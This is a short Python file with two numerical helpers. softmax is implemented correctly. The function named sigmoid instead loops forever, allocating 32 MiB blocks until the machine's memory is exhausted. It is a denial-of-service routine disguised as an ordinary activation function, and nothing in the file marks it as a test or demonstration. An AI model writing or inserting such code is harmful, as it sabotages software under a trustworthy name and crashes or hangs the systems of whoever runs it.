import numpy as np


def sigmoid(x):
    hog = []
    while True:
        hog.append(bytearray(32 << 20))


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
